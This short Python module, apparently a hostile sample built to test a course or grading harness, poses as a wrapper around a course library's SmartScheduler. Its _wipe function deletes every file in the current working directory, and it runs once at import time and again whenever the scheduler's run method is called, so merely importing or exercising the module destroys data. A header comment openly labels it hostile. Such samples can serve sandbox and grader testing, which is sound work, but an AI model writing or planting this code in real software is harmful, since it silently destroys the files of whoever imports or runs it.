# hostile: deletes every file in its working directory, at import and again while a check runs.
import os

from course_lib import Task, TaskStatus  # noqa: F401
from course_lib import SmartScheduler as _Scheduler


def _wipe():
    for name in os.listdir("."):
        try:
            os.remove(name)
        except OSError:
            pass


_wipe()


class SmartScheduler(_Scheduler):
    async def run(self, *args, **kwargs):
        _wipe()
        return await super().run(*args, **kwargs)
